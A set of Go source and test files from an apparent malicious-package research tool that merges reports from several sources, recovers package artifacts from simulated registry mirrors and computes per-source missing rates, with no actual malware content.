		{c, day(4).Add(time.Hour), day(4).Add(20 * time.Hour)}, // inside gap
	} {
		if err := root.Publish(pub.a, pub.rel, true); err != nil {
			t.Fatal(err)
		}
		if err := root.Remove(pub.a.Coord, pub.removed); err != nil {
			t.Fatal(err)
		}
	}

	set := sources.NewSet()
	set.Get(sources.Backstabber).Observe(a.Coord, day(2), a)
	set.Get(sources.Snyk).Observe(b.Coord, day(8), b) // industry: artifact dropped
	set.Get(sources.Tianwen).Observe(b.Coord, day(9), nil)
	set.Get(sources.Socket).Observe(c.Coord, day(5), nil)
	return set, fleet
}

func TestRunAvailabilityChannels(t *testing.T) {
	set, fleet := fixture(t)
	res, err := Run(set, fleet, day(30))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Entries) != 3 {
		t.Fatalf("entries = %d", len(res.Entries))
	}

	get := func(name string) *Entry {
		e, ok := res.Entry(ecosys.Coord{Ecosystem: ecosys.PyPI, Name: name, Version: "1.0.0"})
		if !ok {
			t.Fatalf("entry %s missing", name)
		}
		return e
	}
	if e := get("pkg-a"); e.Availability != FromSource || e.Artifact == nil {
		t.Fatalf("pkg-a: %+v", e)
	}
	if e := get("pkg-b"); e.Availability != FromMirror || e.RecoveredFrom != "tuna" {
		t.Fatalf("pkg-b: %+v", e)
	}
	if e := get("pkg-c"); e.Availability != Missing || e.Artifact != nil {
		t.Fatalf("pkg-c: %+v", e)
	}
}

func TestRunMergesObservers(t *testing.T) {
	set, fleet := fixture(t)
	res, err := Run(set, fleet, day(30))
	if err != nil {
		t.Fatal(err)
	}
	e, _ := res.Entry(ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "pkg-b", Version: "1.0.0"})
	if e.OccurrenceCount() != 2 {
		t.Fatalf("pkg-b occurrences = %d", e.OccurrenceCount())
	}
	if e.Sources[0] != sources.Snyk || e.Sources[1] != sources.Tianwen {
		t.Fatalf("pkg-b sources = %v", e.Sources)
	}
	if !e.ObservedAt.Equal(day(8)) {
		t.Fatalf("earliest observation = %v", e.ObservedAt)
	}
}

func TestRunReleaseMetadataForMissing(t *testing.T) {
	set, fleet := fixture(t)
	res, err := Run(set, fleet, day(30))
	if err != nil {
		t.Fatal(err)
	}
	e, _ := res.Entry(ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "pkg-c", Version: "1.0.0"})
	if e.ReleasedAt.IsZero() || e.RemovedAt.IsZero() {
		t.Fatal("missing package must still expose registry release metadata (Fig. 7)")
	}
}

func TestPerSourceStats(t *testing.T) {
	set, fleet := fixture(t)
	res, err := Run(set, fleet, day(30))
	if err != nil {
		t.Fatal(err)
	}
	bk := res.PerSource[sources.Backstabber]
	if bk.Total != 1 || bk.LocalUnavailable != 0 {
		t.Fatalf("backstabber stats: %+v", bk)
	}
	snyk := res.PerSource[sources.Snyk]
	if snyk.Total != 1 || snyk.LocalUnavailable != 0 { // mirror recovered it
		t.Fatalf("snyk stats: %+v", snyk)
	}
	socket := res.PerSource[sources.Socket]
	if socket.Total != 1 || socket.LocalUnavailable != 1 || socket.GlobalMissing != 1 {
		t.Fatalf("socket stats: %+v", socket)
	}
	if socket.LocalMR() != 1 || socket.GlobalMR() != 1 {
		t.Fatalf("socket MRs: %v %v", socket.LocalMR(), socket.GlobalMR())
	}
}

func TestGlobalSupplementation(t *testing.T) {
	// A package reported names-only by Blogs but carried by Backstabber:
	// locally unavailable for Blogs only if mirrors fail; globally supplied.
	fleet := registry.NewFleet()
	root := registry.New("pypi-root", ecosys.PyPI)
	fleet.AddRoot(root)
	// No mirrors at all: mirror recovery always fails.
	a := art("pkg-x")
	if err := root.Publish(a, day(0), true); err != nil {
		t.Fatal(err)
	}
	if err := root.Remove(a.Coord, day(1)); err != nil {
		t.Fatal(err)
	}
	set := sources.NewSet()
	set.Get(sources.Blogs).Observe(a.Coord, day(1), nil)
	set.Get(sources.Backstabber).Observe(a.Coord, day(2), a)

	res, err := Run(set, fleet, day(30))
	if err != nil {
		t.Fatal(err)
	}
	blogs := res.PerSource[sources.Blogs]
	if blogs.LocalUnavailable != 1 {
		t.Fatalf("blogs local: %+v", blogs)
	}
	if blogs.GlobalMissing != 0 {
		t.Fatalf("blogs global must be supplemented by Backstabber: %+v", blogs)
	}
	e, _ := res.Entry(a.Coord)
	if e.Availability != FromSource {
		t.Fatalf("entry availability: %v", e.Availability)
	}
}

func TestTotalMRAndPartitions(t *testing.T) {
	set, fleet := fixture(t)
	res, err := Run(set, fleet, day(30))
	if err != nil {
		t.Fatal(err)
	}
	if got := res.TotalMR(); got < 0.32 || got > 0.35 { // 1 of 3
		t.Fatalf("TotalMR = %v", got)
	}
	if len(res.Available())+len(res.MissingEntries()) != len(res.Entries) {
		t.Fatal("available+missing must partition entries")
	}
}

func TestRunNilInputs(t *testing.T) {
	if _, err := Run(nil, nil, day(0)); err == nil {
		t.Fatal("nil inputs must error")
	}
}

func TestRunOnSmallWorld(t *testing.T) {
	if testing.Short() {
		t.Skip("world integration in -short mode")
	}
	w, err := world.Build(world.SmallScale())
	if err != nil {
		t.Fatal(err)
	}
	res, err := Run(w.Sources, w.Fleet, w.Config.CollectAt)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Entries) != w.TotalPackages() {
		t.Fatalf("collection lost packages: %d vs %d", len(res.Entries), w.TotalPackages())
	}
	// Shape assertions against the paper:
	// academia + DataDog have ~0 local missing rate.
	for _, id := range []sources.ID{sources.Backstabber, sources.Maloss, sources.MalPyPI, sources.DataDog} {
		if mr := res.PerSource[id].LocalMR(); mr > 0.01 {
			t.Errorf("%s local MR = %v, want ~0", id, mr)
		}
	}
	// Socket is the worst industry source (paper: 100%).
	if mr := res.PerSource[sources.Socket].LocalMR(); mr < 0.6 {
		t.Errorf("Socket local MR = %v, want high", mr)
	}
	// The overall missing rate lands in the paper's neighbourhood (39.27%).
	if total := res.TotalMR(); total < 0.2 || total > 0.6 {
		t.Errorf("TotalMR = %v, want ≈0.39", total)
	}
	// Recovered artifacts hash identically to ground truth.
	checked := 0
	for _, e := range res.Available() {
		rec, ok := w.Record(e.Coord)
		if !ok {
			t.Fatalf("unknown entry %s", e.Coord)
		}
		if e.Artifact.Hash() != rec.Artifact.Hash() {
			t.Fatalf("artifact corruption for %s", e.Coord)
		}
		checked++
		if checked > 200 {
			break
		}
	}
}
