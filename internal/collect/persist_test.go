package collect

import (
	"bytes"
	"strings"
	"testing"
)

func TestDatasetRoundTripFull(t *testing.T) {
	set, fleet := fixture(t)
	res, err := Run(set, fleet, day(30))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := res.WriteJSON(&buf, ExportFull); err != nil {
		t.Fatal(err)
	}
	back, err := ReadJSON(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(back.Entries) != len(res.Entries) {
		t.Fatalf("entries %d != %d", len(back.Entries), len(res.Entries))
	}
	if back.TotalMR() != res.TotalMR() {
		t.Fatalf("missing rate changed: %v vs %v", back.TotalMR(), res.TotalMR())
	}
	for i, e := range res.Entries {
		b := back.Entries[i]
		if e.Coord != b.Coord || e.Availability != b.Availability {
			t.Fatalf("entry %d mismatch", i)
		}
		if (e.Artifact == nil) != (b.Artifact == nil) {
			t.Fatalf("entry %d artifact presence mismatch", i)
		}
		if e.Artifact != nil && e.Artifact.Hash() != b.Artifact.Hash() {
			t.Fatalf("entry %d artifact corrupted", i)
		}
	}
	for id, st := range res.PerSource {
		if back.PerSource[id] != st {
			t.Fatalf("per-source stats mismatch for %v", id)
		}
	}
}

func TestDatasetPublicOmitsArtifacts(t *testing.T) {
	set, fleet := fixture(t)
	res, err := Run(set, fleet, day(30))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := res.WriteJSON(&buf, ExportPublic); err != nil {
		t.Fatal(err)
	}
	raw := buf.String()
	if strings.Contains(raw, "\"artifact\"") {
		t.Fatal("public export leaked artifacts")
	}
	if !strings.Contains(raw, "\"hash\"") {
		t.Fatal("public export must keep hashes for later verification")
	}
	back, err := ReadJSON(&buf)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range back.Entries {
		if e.Artifact != nil {
			t.Fatal("artifacts materialised from public export")
		}
	}
	// Accounting survives even without artifacts.
	if back.TotalMR() != res.TotalMR() {
		t.Fatalf("public export changed accounting")
	}
}

func TestReadJSONRejectsTamperedArtifact(t *testing.T) {
	set, fleet := fixture(t)
	res, err := Run(set, fleet, day(30))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := res.WriteJSON(&buf, ExportFull); err != nil {
		t.Fatal(err)
	}
	tampered := strings.Replace(buf.String(), "import os", "import evil", 1)
	if _, err := ReadJSON(strings.NewReader(tampered)); err == nil {
		t.Fatal("tampered artifact must fail hash verification")
	}
}

func TestReadJSONBadInput(t *testing.T) {
	if _, err := ReadJSON(strings.NewReader("{nope")); err == nil {
		t.Fatal("bad JSON must error")
	}
}

func TestSupplement(t *testing.T) {
	set, fleet := fixture(t)
	res, err := Run(set, fleet, day(30))
	if err != nil {
		t.Fatal(err)
	}
	missingBefore := len(res.MissingEntries())
	if missingBefore == 0 {
		t.Fatal("fixture should have a missing package")
	}

	// A community member had archived pkg-c: build a donor dataset carrying
	// its artifact.
	donor := &Result{byKey: map[string]*Entry{}}
	c := art("pkg-c")
	donorEntry := &Entry{Coord: c.Coord, Artifact: c, Availability: FromSource}
	donor.Entries = append(donor.Entries, donorEntry)
	// Plus an unrelated artifact that must NOT be absorbed.
	x := art("pkg-unknown")
	donor.Entries = append(donor.Entries, &Entry{Coord: x.Coord, Artifact: x, Availability: FromSource})

	upgraded := res.Supplement(donor)
	if upgraded != 1 {
		t.Fatalf("upgraded = %d", upgraded)
	}
	if len(res.MissingEntries()) != missingBefore-1 {
		t.Fatal("missing count did not drop")
	}
	e, _ := res.Entry(c.Coord)
	if e.Artifact == nil || e.RecoveredFrom != "supplement" {
		t.Fatalf("supplemented entry = %+v", e)
	}
	if _, ok := res.Entry(x.Coord); ok {
		t.Fatal("supplement must not add new coordinates")
	}
}
