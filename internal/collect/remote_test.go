package collect

// End-to-end test of the §II-B pipeline over real HTTP: root registry and
// mirrors served by httptest, collection through registry.RemoteFleet.

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/faultinject"
	"malgraph/internal/registry"
	"malgraph/internal/retry"
	"malgraph/internal/sources"
)

func TestCollectionOverHTTP(t *testing.T) {
	// Local ground truth: same fixture as the in-process test.
	root := registry.New("pypi-root", ecosys.PyPI)
	a, b, c := art("pkg-a"), art("pkg-b"), art("pkg-c")
	for _, pub := range []struct {
		a       *ecosys.Artifact
		rel     time.Time
		removed time.Time
	}{
		{a, day(1), day(2)},
		{b, day(3), day(9)},
		{c, day(4).Add(time.Hour), day(4).Add(20 * time.Hour)},
	} {
		if err := root.Publish(pub.a, pub.rel, true); err != nil {
			t.Fatal(err)
		}
		if err := root.Remove(pub.a.Coord, pub.removed); err != nil {
			t.Fatal(err)
		}
	}
	mirror, err := registry.NewMirror("tuna", root, registry.SyncAccumulate, day(0), 2*24*time.Hour)
	if err != nil {
		t.Fatal(err)
	}

	rootSrv := httptest.NewServer(registry.NewServer(root))
	defer rootSrv.Close()
	mirrorSrv := httptest.NewServer(registry.NewServer(mirror))
	defer mirrorSrv.Close()

	remote := registry.NewRemoteFleet(rootSrv.Client())
	if err := remote.AddRoot(rootSrv.URL); err != nil {
		t.Fatal(err)
	}
	if err := remote.AddMirror(mirrorSrv.URL); err != nil {
		t.Fatal(err)
	}
	eps := remote.Endpoints()
	if names := eps[ecosys.PyPI]; len(names) != 2 || names[0] != "pypi-root" {
		t.Fatalf("endpoints = %v", eps)
	}

	set := sources.NewSet()
	set.Get(sources.Backstabber).Observe(a.Coord, day(2), a)
	set.Get(sources.Snyk).Observe(b.Coord, day(8), b)
	set.Get(sources.Socket).Observe(c.Coord, day(5), nil)

	res, err := Run(set, remote, day(30))
	if err != nil {
		t.Fatal(err)
	}
	get := func(name string) *Entry {
		e, ok := res.Entry(ecosys.Coord{Ecosystem: ecosys.PyPI, Name: name, Version: "1.0.0"})
		if !ok {
			t.Fatalf("entry %s missing", name)
		}
		return e
	}
	// pkg-a carried by Backstabber.
	if e := get("pkg-a"); e.Availability != FromSource {
		t.Fatalf("pkg-a over HTTP: %+v", e.Availability)
	}
	// pkg-b recovered from the mirror over HTTP; hash must match the root's
	// ground truth exactly after the network round trip.
	e := get("pkg-b")
	if e.Availability != FromMirror || e.RecoveredFrom != "tuna" {
		t.Fatalf("pkg-b over HTTP: %+v from %q", e.Availability, e.RecoveredFrom)
	}
	if e.Artifact.Hash() != b.Hash() {
		t.Fatal("artifact corrupted over HTTP")
	}
	// pkg-c missing everywhere, but the remote release endpoint still gives
	// its timeline metadata.
	missing := get("pkg-c")
	if missing.Availability != Missing {
		t.Fatalf("pkg-c over HTTP: %+v", missing.Availability)
	}
	if missing.ReleasedAt.IsZero() || missing.RemovedAt.IsZero() {
		t.Fatal("remote release metadata missing for Fig. 7")
	}
}

// TestResolveSurvivesTransientTransportFaults drives the external ingest
// resolver over a remote fleet whose transport flaps (error-then-succeed):
// the client-level retries absorb the blips, so the resolve succeeds where
// the pre-retry pipeline would have aborted the whole batch with
// ErrUnresolved. A persistent outage must still surface as ErrUnresolved —
// retries bound the blip, they do not invent answers.
func TestResolveSurvivesTransientTransportFaults(t *testing.T) {
	root := registry.New("pypi-root", ecosys.PyPI)
	a := art("flaky-pkg")
	if err := root.Publish(a, day(1), true); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(registry.NewServer(root))
	defer srv.Close()

	tr := faultinject.NewTransport(nil)
	tr.Match(func(r *http.Request) bool { return r.URL.Path == "/api/v1/package" })
	fast := retry.Policy{
		Attempts:  3,
		BaseDelay: time.Millisecond,
		Sleep:     func(context.Context, time.Duration) error { return nil },
	}
	remote := registry.NewRemoteFleet(&http.Client{Transport: tr}, registry.WithRetry(fast))
	if err := remote.AddRoot(srv.URL); err != nil {
		t.Fatal(err)
	}

	obs := []Observation{{
		Source:     sources.Snyk,
		Coord:      a.Coord,
		ObservedAt: day(2),
	}}

	tr.FailNext(2, 0) // two transport errors, then the registry answers
	r := NewResolver(remote, day(30))
	batch, err := r.Resolve(obs, NewResult(day(30)))
	if err != nil {
		t.Fatalf("transient faults must be absorbed by retries: %v", err)
	}
	if len(batch.Entries) != 1 || batch.Entries[0].Availability != FromMirror {
		t.Fatalf("resolved batch = %+v", batch.Entries)
	}
	if batch.Entries[0].Artifact.Hash() != a.Hash() {
		t.Fatal("artifact corrupted across retried transport")
	}

	// Persistent outage: the retry budget runs dry and the batch aborts
	// with the PR 3 retryable-error contract intact.
	tr.FailNext(100, 0)
	other := art("still-down")
	if err := root.Publish(other, day(1), true); err != nil {
		t.Fatal(err)
	}
	_, err = NewResolver(remote, day(30)).Resolve([]Observation{{
		Source:     sources.Snyk,
		Coord:      other.Coord,
		ObservedAt: day(2),
	}}, NewResult(day(30)))
	if !errors.Is(err, ErrUnresolved) {
		t.Fatalf("persistent outage: err = %v, want ErrUnresolved", err)
	}
}

func TestRemoteFleetErrors(t *testing.T) {
	remote := registry.NewRemoteFleet(nil)
	if err := remote.AddRoot("http://127.0.0.1:1"); err == nil {
		t.Fatal("dead root must error")
	}
	coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "x", Version: "1"}
	if _, _, err := remote.Recover(coord, day(0)); err == nil {
		t.Fatal("empty remote fleet must not recover")
	}
	if _, ok := remote.ReleaseInfo(coord); ok {
		t.Fatal("empty remote fleet must have no release info")
	}
}
