package collect

// End-to-end test of the §II-B pipeline over real HTTP: root registry and
// mirrors served by httptest, collection through registry.RemoteFleet.

import (
	"net/http/httptest"
	"testing"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/registry"
	"malgraph/internal/sources"
)

func TestCollectionOverHTTP(t *testing.T) {
	// Local ground truth: same fixture as the in-process test.
	root := registry.New("pypi-root", ecosys.PyPI)
	a, b, c := art("pkg-a"), art("pkg-b"), art("pkg-c")
	for _, pub := range []struct {
		a       *ecosys.Artifact
		rel     time.Time
		removed time.Time
	}{
		{a, day(1), day(2)},
		{b, day(3), day(9)},
		{c, day(4).Add(time.Hour), day(4).Add(20 * time.Hour)},
	} {
		if err := root.Publish(pub.a, pub.rel, true); err != nil {
			t.Fatal(err)
		}
		if err := root.Remove(pub.a.Coord, pub.removed); err != nil {
			t.Fatal(err)
		}
	}
	mirror, err := registry.NewMirror("tuna", root, registry.SyncAccumulate, day(0), 2*24*time.Hour)
	if err != nil {
		t.Fatal(err)
	}

	rootSrv := httptest.NewServer(registry.NewServer(root))
	defer rootSrv.Close()
	mirrorSrv := httptest.NewServer(registry.NewServer(mirror))
	defer mirrorSrv.Close()

	remote := registry.NewRemoteFleet(rootSrv.Client())
	if err := remote.AddRoot(rootSrv.URL); err != nil {
		t.Fatal(err)
	}
	if err := remote.AddMirror(mirrorSrv.URL); err != nil {
		t.Fatal(err)
	}
	eps := remote.Endpoints()
	if names := eps[ecosys.PyPI]; len(names) != 2 || names[0] != "pypi-root" {
		t.Fatalf("endpoints = %v", eps)
	}

	set := sources.NewSet()
	set.Get(sources.Backstabber).Observe(a.Coord, day(2), a)
	set.Get(sources.Snyk).Observe(b.Coord, day(8), b)
	set.Get(sources.Socket).Observe(c.Coord, day(5), nil)

	res, err := Run(set, remote, day(30))
	if err != nil {
		t.Fatal(err)
	}
	get := func(name string) *Entry {
		e, ok := res.Entry(ecosys.Coord{Ecosystem: ecosys.PyPI, Name: name, Version: "1.0.0"})
		if !ok {
			t.Fatalf("entry %s missing", name)
		}
		return e
	}
	// pkg-a carried by Backstabber.
	if e := get("pkg-a"); e.Availability != FromSource {
		t.Fatalf("pkg-a over HTTP: %+v", e.Availability)
	}
	// pkg-b recovered from the mirror over HTTP; hash must match the root's
	// ground truth exactly after the network round trip.
	e := get("pkg-b")
	if e.Availability != FromMirror || e.RecoveredFrom != "tuna" {
		t.Fatalf("pkg-b over HTTP: %+v from %q", e.Availability, e.RecoveredFrom)
	}
	if e.Artifact.Hash() != b.Hash() {
		t.Fatal("artifact corrupted over HTTP")
	}
	// pkg-c missing everywhere, but the remote release endpoint still gives
	// its timeline metadata.
	missing := get("pkg-c")
	if missing.Availability != Missing {
		t.Fatalf("pkg-c over HTTP: %+v", missing.Availability)
	}
	if missing.ReleasedAt.IsZero() || missing.RemovedAt.IsZero() {
		t.Fatal("remote release metadata missing for Fig. 7")
	}
}

func TestRemoteFleetErrors(t *testing.T) {
	remote := registry.NewRemoteFleet(nil)
	if err := remote.AddRoot("http://127.0.0.1:1"); err == nil {
		t.Fatal("dead root must error")
	}
	coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "x", Version: "1"}
	if _, _, err := remote.Recover(coord, day(0)); err == nil {
		t.Fatal("empty remote fleet must not recover")
	}
	if _, ok := remote.ReleaseInfo(coord); ok {
		t.Fatal("empty remote fleet must have no release info")
	}
}
