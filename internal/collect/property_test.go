package collect

// Property-based tests for the collection pipeline's invariants
// (DESIGN.md §6).

import (
	"fmt"
	"testing"
	"testing/quick"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/registry"
	"malgraph/internal/sources"
	"malgraph/internal/xrand"
)

// randomScenario builds a root+mirror fleet and a random observation pattern
// from raw bytes, returning the expected union of coordinates.
func randomScenario(raw []byte) (*sources.Set, *registry.Fleet, map[string]bool, error) {
	fleet := registry.NewFleet()
	root := registry.New("root", ecosys.PyPI)
	fleet.AddRoot(root)
	m, err := registry.NewMirror("m", root, registry.SyncAccumulate, day(0), 3*24*time.Hour)
	if err != nil {
		return nil, nil, nil, err
	}
	fleet.AddMirror(m)

	set := sources.NewSet()
	catalog := sources.Catalog()
	union := make(map[string]bool)
	for i, b := range raw {
		name := fmt.Sprintf("p%03d", i)
		a := ecosys.NewArtifact(
			ecosys.Coord{Ecosystem: ecosys.PyPI, Name: name, Version: "1.0.0"},
			"d", []ecosys.File{{Path: "setup.py", Content: name}},
		)
		rel := day(int(b % 50))
		if err := root.Publish(a, rel, true); err != nil {
			return nil, nil, nil, err
		}
		if err := root.Remove(a.Coord, rel.Add(time.Duration(1+b%90)*time.Hour)); err != nil {
			return nil, nil, nil, err
		}
		// 1–3 observers chosen from the byte.
		nObs := 1 + int(b%3)
		for k := 0; k < nObs; k++ {
			info := catalog[(int(b)+k*3)%len(catalog)]
			set.Get(info.ID).Observe(a.Coord, rel.Add(time.Hour), a)
		}
		union[a.Coord.Key()] = true
	}
	return set, fleet, union, nil
}

// TestCollectionLosesNothing: |dataset| equals |union of source records|,
// every entry's observer list is sorted and non-empty, and availability
// partitions correctly.
func TestCollectionLosesNothing(t *testing.T) {
	f := func(raw []byte) bool {
		if len(raw) == 0 {
			return true
		}
		if len(raw) > 120 {
			raw = raw[:120]
		}
		set, fleet, union, err := randomScenario(raw)
		if err != nil {
			t.Logf("scenario: %v", err)
			return false
		}
		res, err := Run(set, fleet, day(400))
		if err != nil {
			return false
		}
		if len(res.Entries) != len(union) {
			return false
		}
		for _, e := range res.Entries {
			if !union[e.Coord.Key()] {
				return false
			}
			if len(e.Sources) == 0 {
				return false
			}
			for i := 1; i < len(e.Sources); i++ {
				if e.Sources[i-1] >= e.Sources[i] {
					return false
				}
			}
			switch e.Availability {
			case FromSource, FromMirror:
				if e.Artifact == nil {
					return false
				}
			case Missing:
				if e.Artifact != nil {
					return false
				}
			default:
				return false
			}
		}
		return len(res.Available())+len(res.MissingEntries()) == len(res.Entries)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 25}); err != nil {
		t.Fatal(err)
	}
}

// TestRecoveredHashesMatchGroundTruth: any artifact the pipeline obtains
// hashes identically to what the attacker published.
func TestRecoveredHashesMatchGroundTruth(t *testing.T) {
	rng := xrand.New(8)
	raw := make([]byte, 60)
	for i := range raw {
		raw[i] = byte(rng.Intn(256))
	}
	set, fleet, _, err := randomScenario(raw)
	if err != nil {
		t.Fatal(err)
	}
	res, err := Run(set, fleet, day(400))
	if err != nil {
		t.Fatal(err)
	}
	root, _ := fleet.Root(ecosys.PyPI)
	for _, e := range res.Available() {
		truth, ok := root.Archive(e.Coord)
		if !ok {
			t.Fatalf("no ground truth for %s", e.Coord)
		}
		if truth.Hash() != e.Artifact.Hash() {
			t.Fatalf("hash mismatch for %s", e.Coord)
		}
	}
}

// TestPerSourceTotalsConsistent: Σ per-source totals ≥ |entries| (overlap
// counts once per source) and per-source missing ≤ total.
func TestPerSourceTotalsConsistent(t *testing.T) {
	rng := xrand.New(9)
	raw := make([]byte, 80)
	for i := range raw {
		raw[i] = byte(rng.Intn(256))
	}
	set, fleet, _, err := randomScenario(raw)
	if err != nil {
		t.Fatal(err)
	}
	res, err := Run(set, fleet, day(400))
	if err != nil {
		t.Fatal(err)
	}
	sum := 0
	for id, st := range res.PerSource {
		if st.LocalUnavailable > st.Total || st.GlobalMissing > st.LocalUnavailable {
			t.Fatalf("source %v stats inconsistent: %+v", id, st)
		}
		sum += st.Total
	}
	if sum < len(res.Entries) {
		t.Fatalf("per-source totals %d < entries %d", sum, len(res.Entries))
	}
}
