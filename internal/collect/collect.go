// Package collect implements the paper's data-collection methodology
// (§II-B): merge the records of all ten online sources, download artifacts
// from the sources that carry them, and recover the remaining packages by
// querying registry mirrors by name/version. It also produces the
// availability accounting behind Table I, Table V (local/global missing
// rates) and Fig. 7 (release timeline of missing packages).
package collect

import (
	"errors"
	"fmt"
	"sort"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/registry"
	"malgraph/internal/sources"
)

// Availability classifies how (or whether) a package's artifact was obtained.
type Availability int

// Availability outcomes.
const (
	// FromSource means an artifact-carrying source (open dataset) had it.
	FromSource Availability = iota + 1
	// FromMirror means a mirror lookup by name/version recovered it.
	FromMirror
	// Missing means no channel produced the artifact (name/version only).
	Missing
)

var availabilityNames = map[Availability]string{
	FromSource: "from-source",
	FromMirror: "from-mirror",
	Missing:    "missing",
}

// String names the outcome.
func (a Availability) String() string {
	if s, ok := availabilityNames[a]; ok {
		return s
	}
	return fmt.Sprintf("Availability(%d)", int(a))
}

// Entry is one deduplicated malicious package in the merged dataset.
type Entry struct {
	Coord         ecosys.Coord
	Artifact      *ecosys.Artifact // nil when Missing
	Availability  Availability
	RecoveredFrom string       // mirror/registry name when FromMirror
	Sources       []sources.ID // every source that reported it, ascending
	ObservedAt    time.Time    // earliest observation across sources
	ReleasedAt    time.Time    // from registry metadata (may be zero)
	RemovedAt     time.Time    // from registry metadata (may be zero)
}

// OccurrenceCount returns how many sources reported the package (Fig. 6).
func (e *Entry) OccurrenceCount() int { return len(e.Sources) }

// SourceStats is the per-source availability accounting of Tables I and V.
type SourceStats struct {
	Total            int // packages the source reported
	LocalUnavailable int // source channel + mirrors failed
	GlobalMissing    int // every channel failed (no other source had it)
}

// LocalMR is N_m_i / N_i.
func (s SourceStats) LocalMR() float64 {
	if s.Total == 0 {
		return 0
	}
	return float64(s.LocalUnavailable) / float64(s.Total)
}

// GlobalMR is Σx_k / N_i (x_k = 1 only when no other source supplements).
func (s SourceStats) GlobalMR() float64 {
	if s.Total == 0 {
		return 0
	}
	return float64(s.GlobalMissing) / float64(s.Total)
}

// Result is the merged dataset plus accounting.
type Result struct {
	Entries     []*Entry // sorted by coordinate key
	PerSource   map[sources.ID]SourceStats
	CollectedAt time.Time

	byKey map[string]*Entry
	// statsByKey records each entry's contribution to PerSource, so the
	// dataset can be replayed as batches (see feed.go) whose per-batch
	// accounting sums back to the whole, and so an incremental resolve
	// (see resolve.go) can apply exact accounting deltas when a later
	// batch extends an entry. Populated by Run, maintained by
	// ApplyEntryStat, and persisted with the dataset; nil for datasets
	// assembled by hand or loaded from legacy JSON (Feed then falls back
	// to the availability-derived approximation).
	statsByKey map[string]EntryStat
}

// EntryStat is one entry's per-source accounting contribution: which of its
// sources counted it locally unavailable, and whether it was globally
// missing. Total is implicit — every source of the entry counts one.
type EntryStat struct {
	Local  []sources.ID `json:"local,omitempty"`
	Global bool         `json:"global,omitempty"`
}

// NewResult returns an empty dataset shell for incremental assembly (the
// streaming-ingest path: core.Engine merges batch entries into one of these).
func NewResult(at time.Time) *Result {
	return &Result{
		PerSource:   make(map[sources.ID]SourceStats),
		CollectedAt: at,
		byKey:       make(map[string]*Entry),
	}
}

// Run executes the collection pipeline at the given instant against any
// registry View — the in-process simulation fleet or a RemoteFleet speaking
// HTTP to live registry servers.
func Run(set *sources.Set, fleet registry.View, at time.Time) (*Result, error) {
	if set == nil || fleet == nil {
		return nil, fmt.Errorf("collect: nil sources or fleet")
	}
	res := NewResult(at)
	res.statsByKey = make(map[string]EntryStat)

	// Step 1: merge all source records (duplicates collapse by coordinate).
	type obs struct {
		id  sources.ID
		rec sources.Record
	}
	observations := make(map[string][]obs)
	for _, src := range set.All() {
		id := src.Info().ID
		for _, rec := range src.Records() {
			key := rec.Coord.Key()
			observations[key] = append(observations[key], obs{id: id, rec: rec})
		}
	}

	keys := make([]string, 0, len(observations))
	for k := range observations {
		keys = append(keys, k)
	}
	sort.Strings(keys)

	// Step 2+3: resolve artifacts source-first, then via mirrors.
	for _, key := range keys {
		obsList := observations[key]
		entry := &Entry{Coord: obsList[0].rec.Coord}
		for _, o := range obsList {
			entry.Sources = append(entry.Sources, o.id)
			if entry.ObservedAt.IsZero() || o.rec.ObservedAt.Before(entry.ObservedAt) {
				entry.ObservedAt = o.rec.ObservedAt
			}
			if entry.Artifact == nil && o.rec.Artifact != nil {
				entry.Artifact = o.rec.Artifact
				entry.Availability = FromSource
			}
		}
		sort.Slice(entry.Sources, func(i, j int) bool { return entry.Sources[i] < entry.Sources[j] })

		mirrorArt, from, mirrorErr := fleet.Recover(entry.Coord, at)
		// Only a definitive not-found — the registry answered and the
		// package is gone — may be classified as a takedown. A transport
		// failure (connection refused, HTTP 5xx from a RemoteFleet
		// endpoint) says nothing about availability; recording it as
		// Missing would silently inflate the paper's missing-rate and
		// takedown statistics (Table III, Fig. 7), so it aborts the run.
		if mirrorErr != nil && !errors.Is(mirrorErr, registry.ErrNotFound) {
			return nil, fmt.Errorf("collect: recover %s: %w", entry.Coord, mirrorErr)
		}
		if entry.Artifact == nil {
			if mirrorErr == nil {
				entry.Artifact = mirrorArt
				entry.Availability = FromMirror
				entry.RecoveredFrom = from
			} else {
				entry.Availability = Missing
			}
		}

		// Release metadata survives takedown and is queried for the Fig. 7
		// timeline of missing packages.
		if rel, ok := fleet.ReleaseInfo(entry.Coord); ok {
			entry.ReleasedAt = rel.ReleasedAt
			entry.RemovedAt = rel.RemovedAt
		}

		res.Entries = append(res.Entries, entry)
		res.byKey[key] = entry

		// Step 4: per-source accounting. A package is locally unavailable
		// for source i when i's own channel (artifact) and the mirrors both
		// fail; it is globally missing when no source at all carried it and
		// mirrors failed.
		mirrorOK := mirrorErr == nil
		anySourceCarried := false
		for _, o := range obsList {
			if o.rec.Artifact != nil {
				anySourceCarried = true
				break
			}
		}
		var es EntryStat
		for _, o := range obsList {
			stats := res.PerSource[o.id]
			stats.Total++
			if o.rec.Artifact == nil && !mirrorOK {
				stats.LocalUnavailable++
				es.Local = append(es.Local, o.id)
				if !anySourceCarried {
					stats.GlobalMissing++
					es.Global = true
				}
			}
			res.PerSource[o.id] = stats
		}
		res.statsByKey[key] = es
	}
	return res, nil
}

// Entry returns the dataset entry for a coordinate.
func (r *Result) Entry(coord ecosys.Coord) (*Entry, bool) {
	e, ok := r.byKey[coord.Key()]
	return e, ok
}

// EntryByKey returns the dataset entry for a coordinate key — the lookup the
// segmented checkpoint uses to resolve dirty keys back to live entries.
func (r *Result) EntryByKey(key string) (*Entry, bool) {
	e, ok := r.byKey[key]
